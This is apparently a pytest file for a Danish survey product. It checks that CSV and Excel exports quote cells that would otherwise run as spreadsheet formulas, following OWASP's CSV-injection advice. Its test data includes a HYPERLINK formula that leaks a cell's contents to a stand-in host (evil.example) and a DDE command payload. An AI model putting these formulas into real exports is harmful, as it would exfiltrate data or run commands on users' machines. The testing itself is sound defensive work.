"""Issue 16: CSV and Excel files never carry a formula a spreadsheet would run (OWASP's CSV
injection advice), through one function that every writer uses."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from socialkapital import plans, spreadsheet
from tests.plans.test_plans import plan

ROOT = Path(__file__).resolve().parents[2]
EVIL = [
    '=HYPERLINK("http://evil.example?"&A1,"klik")',
    "+45 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

# (value, as written): OWASP's rule, one quote in front; a quote already there gets one more
# only when a formula character follows it (so that reading back is exact).
CELLS = [
    *[(v, "'" + v) for v in EVIL],
    ("'=1+1", "''=1+1"),
    ("''@x", "'''@x"),
    ("'quoted", "'quoted"),
    ("Lager - nord", "Lager - nord"),
    ("Køkken", "Køkken"),
    ("", ""),
    (None, None),
    (5, 5),
    (-2.5, -2.5),
]


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_a_cell_that_would_run_is_quoted_and_read_back_exactly(value, written):
    assert spreadsheet.cell(value) == written
    if isinstance(value, str):
        assert spreadsheet.plain(written) == value


def read_csv(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=sep))


def test_a_frame_as_csv_quotes_text_cells_and_headers_not_numbers():
    frame = pl.DataFrame({"=navn": ["=1+1", "ok", None], "tal": [-1.5, 2.0, None]})
    rows = read_csv(spreadsheet.frame_csv(frame))
    assert rows == [["'=navn", "tal"], ["'=1+1", "-1.5"], ["ok", "2.0"], ["", ""]]


def test_excel_text_is_text_never_a_formula_or_a_link():
    frame = pl.DataFrame({"=H1": ["=1+1", "http://evil.example", "-x"], "n": [1.5, -2.0, 3.0]})
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(frame, "Ark")))
    sheet = book["Ark"]
    cells = [(c.value, c.data_type) for c in sheet["A"]]
    assert cells == [("=H1", "s"), ("=1+1", "s"), ("http://evil.example", "s"), ("-x", "s")]
    assert all(c.hyperlink is None for c in sheet["A"])
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(1.5, "n"), (-2, "n"), (3, "n")]


def test_the_dashboards_downloads_are_safe():
    from dashboard import analysis_ui

    frame = pl.DataFrame({"Afdeling": ["=cmd|' /C calc'!A0", "Køkken"], "Score": [-3.25, 70.0]})
    rows = read_csv(analysis_ui.csv_bytes(frame, "da").decode("utf-8"), ";")
    assert rows == [["Afdeling", "Score"], ["'=cmd|' /C calc'!A0", "-3,25"], ["Køkken", "70,0"]]
    book = openpyxl.load_workbook(io.BytesIO(analysis_ui.xlsx_bytes(frame, "Ark")))
    first = book.active["A2"]
    assert (first.value, first.data_type) == ("=cmd|' /C calc'!A0", "s")


def test_plans_export_quotes_formulas_and_import_reads_them_back(ins):
    texts = dict(
        focus_area='=HYPERLINK("http://evil.example")',
        description="-gør det sammen",
        responsible="@holdleder",
        follow_up="'=ikke en formel",
        goal="'citat",
    )
    made = plan(**texts, plan_id=7, start_date=date(2026, 5, 1))
    exported = plans.export_csv([made])
    row = dict(zip(*read_csv(exported), strict=True))
    assert row["focus_area"] == '\'=HYPERLINK("http://evil.example")'
    assert row["description"] == "'-gør det sammen"
    assert row["responsible"] == "'@holdleder"
    assert row["follow_up"] == "''=ikke en formel"
    assert row["goal"] == "'citat" and row["plan_id"] == "7"
    (back,) = plans.parse(exported.encode(), "plans.csv", ins)
    assert {k: getattr(back, k) for k in texts} == texts


# The files the product writes from frames or records that hold names or free text. Those
# left out write only the product's own text (the import template) or data for the product
# itself to read (the demo's answers, the demo loaded through the importer).
OWN_TEXT = {"socialkapital/importers/template.py", "socialkapital/demo.py", "socialkapital/cli.py"}


def test_every_csv_and_excel_writer_goes_through_spreadsheet():
    writers = re.compile(r"\.write_csv\(|\.write_excel\(|csv\.(Dict)?[Ww]riter\(")
    found = []
    for folder in ("socialkapital", "dashboard", "queries"):
        for path in (ROOT / folder).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel == "socialkapital/spreadsheet.py" or rel in OWN_TEXT:
                continue
            found += [rel for line in path.read_text().splitlines() if writers.search(line)]
    assert found == []
